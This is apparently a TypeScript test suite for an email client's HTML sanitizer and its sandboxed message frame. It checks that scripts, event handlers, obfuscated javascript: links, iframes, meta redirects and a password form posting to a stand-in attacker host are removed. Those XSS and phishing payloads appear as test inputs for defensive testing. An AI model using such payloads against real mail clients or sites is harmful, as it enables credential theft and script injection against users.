import { describe, expect, it } from 'vitest';
import { bodyContentSecurityPolicy, bodyDocument } from '@/lib/messages/body-document';
import { sanitizeMessageHtml } from '@/lib/messages/sanitize-html';

const INLINE = new Map([['logo@fabrikam.test', '/api/v1/messages/7/attachments/9?inline=1']]);
const clean = (html: string) => sanitizeMessageHtml(html, INLINE);

describe('the message HTML sanitizer', () => {
  it('removes scripts, event handlers and javascript: links however they are spelled', () => {
    const out = clean(`<script>window.parent.__pwned=1</script><SCRIPT src="https://evil.test/x.js"></SCRIPT>
      <img src="x" onerror="window.parent.__pwned=2"><p onclick="x()" onmouseover='y()'>hi</p>
      <a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt&#x3a;alert(2)">b</a><a href="java&#x09;script:alert(3)">c</a>
      <a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="vbscript:msgbox(1)">e</a><svg onload="x()"><script>1</script></svg>`);
    expect(out).not.toMatch(/<script|__pwned|onerror|onclick|onmouseover|onload|javascript|vbscript|data:text|<svg/i);
    expect(out).toContain('<p>hi</p>');
    expect(out.match(/<a /g)).toHaveLength(5); // the link text stays, the href does not
    expect(out).not.toContain('href');
  });

  it('removes forms, meta refresh, base, iframes, objects and embeds', () => {
    const out =
      clean(`<head><meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/a.css"></head>
      <form action="https://evil.test/steal" method="post"><input name="password"><button>Log in</button></form>
      <iframe src="https://evil.test/"></iframe><object data="x.swf"></object><embed src="x.swf"><frameset><frame src="x"></frameset>`);
    expect(out).not.toMatch(/<(meta|base|link|form|input|button|iframe|object|embed|frame)/i);
    expect(out).not.toContain('evil.test');
    expect(out).toContain('Log in'); // what the form said is still readable
  });

  it('opens links in a new tab without an opener or referrer, and drops links into the console', () => {
    const out = clean(
      '<a href="https://fabrikam.test/offer">offer</a><a href="/api/v1/messages/1/source">relative</a><a href="//evil.test/">proto</a><a href="mailto:x@y.test">mail</a>',
    );
    expect(out).toContain('<a href="https://fabrikam.test/offer" target="_blank" rel="noopener noreferrer">offer</a>');
    expect(out).toContain('<a href="mailto:x@y.test" target="_blank" rel="noopener noreferrer">mail</a>');
    expect(out).toContain('<a target="_blank" rel="noopener noreferrer">relative</a>');
    expect(out).not.toContain('evil.test');
  });

  it('rewrites cid: images to the attachment route and drops unknown or unsafe image sources', () => {
    const out =
      clean(`<img src="cid:logo@fabrikam.test" alt="logo"><img src="CID:logo%40fabrikam.test"><img src="cid:missing@x">
      <img src="https://images.fabrikam.test/p.png"><img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">
      <img src="/api/v1/messages/2/attachments/3?inline=1"><img src="file:///etc/passwd">`);
    expect(out.match(/src="\/api\/v1\/messages\/7\/attachments\/9\?inline=1"/g)).toHaveLength(2);
    expect(out).toContain('src="https://images.fabrikam.test/p.png"'); // the frame's CSP decides whether it loads
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(out).not.toMatch(/cid:|svg|\/messages\/2\/|file:/);
  });

  it('keeps what mail layouts need: tables, inline styles, <style>, fonts', () => {
    const out = clean(
      '<style>.x{color:red}</style><table width="600" cellpadding="0"><tr><td bgcolor="#fff" style="padding:4px"><font color="red">Hi</font></td></tr></table>',
    );
    expect(out).toContain('<style>.x{color:red}</style>');
    expect(out).toContain('<table width="600" cellpadding="0">');
    expect(out).toContain('<td bgcolor="#fff" style="padding:4px"><font color="red">Hi</font></td>');
  });
});

describe('the framed body document', () => {
  it('blocks remote images, scripts and form posts unless remote images were asked for, sandboxed like its frame', () => {
    expect(bodyContentSecurityPolicy({ remoteImages: false })).toBe(
      "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; frame-ancestors 'self'; form-action 'none'; base-uri 'none'; sandbox allow-popups allow-popups-to-escape-sandbox",
    );
    expect(bodyContentSecurityPolicy({ remoteImages: true })).toContain("img-src 'self' data: https:;");
    expect(bodyDocument('<p>x</p>', 'Hello')).toMatch(
      /^<!doctype html><html lang="und"><head><meta charset="utf-8">.*<body tabindex="0"><p>x<\/p><\/body><\/html>$/,
    );
  });

  it('titles the document with the subject, escaped, and makes its body focusable for keyboard scrolling', () => {
    const document = bodyDocument('<p>x</p>', 'Re: <b>"Q3" & more</b>');
    expect(document).toContain('<title>Re: &lt;b&gt;&quot;Q3&quot; &amp; more&lt;/b&gt;</title>');
    expect(document).toContain('<body tabindex="0">');
  });
});
